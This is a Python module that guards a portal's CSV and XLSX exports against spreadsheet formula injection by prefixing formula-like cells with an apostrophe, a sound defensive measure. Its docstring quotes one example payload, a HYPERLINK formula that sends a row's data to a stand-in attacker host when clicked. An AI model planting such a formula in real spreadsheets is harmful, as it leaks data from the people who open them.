"""Spreadsheets that cannot run code: every CSV and XLSX the portal exports goes through `export_bytes`.

A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice or Google Sheets (`=HYPERLINK("http://evil.example/?leak="&B2,"Open")` sends the row away when
clicked). Such a cell is exported with a leading apostrophe, which every spreadsheet program reads as "this
is text" (OWASP's advice for CSV injection); numbers, dates and empty cells are left as they are. Imports
use `is_formula_like` to flag such cells and `strip_neutralised` to read back what an export wrote.
"""

from datetime import date, datetime
from decimal import Decimal

import tablib

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def is_formula_like(value) -> bool:
    """A text that a spreadsheet program would evaluate."""
    return isinstance(value, str) and value.startswith(FORMULA_START)


def neutralise(value):
    """The cell as it is exported: a formula-like text gets a leading apostrophe; anything else is kept."""
    if isinstance(value, Decimal | int | float | date | datetime) or value is None:
        return value
    text = str(value)
    return "'" + text if is_formula_like(text) else text


def strip_neutralised(text: str) -> str:
    """What an export neutralised, read back: the apostrophe before a formula-like text is dropped."""
    if isinstance(text, str) and text.startswith("'") and is_formula_like(text[1:]):
        return text[1:]
    return text


def neutralised(dataset: tablib.Dataset) -> tablib.Dataset:
    """A copy of `dataset` with its headers and every cell neutralised."""
    safe = tablib.Dataset(headers=[neutralise(h) for h in dataset.headers or []], title=dataset.title)
    for row in dataset:
        safe.append([neutralise(cell) for cell in row])
    return safe


def export_bytes(dataset: tablib.Dataset, fmt: str) -> bytes:
    """The dataset as CSV (UTF-8 with a byte-order mark, so spreadsheet programs read accents) or XLSX,
    every cell neutralised."""
    safe = neutralised(dataset)
    if fmt == "csv":
        return ("\ufeff" + safe.export("csv")).encode("utf-8")
    if fmt == "xlsx":
        return safe.export("xlsx")
    raise ValueError(f"unknown spreadsheet format {fmt!r}")
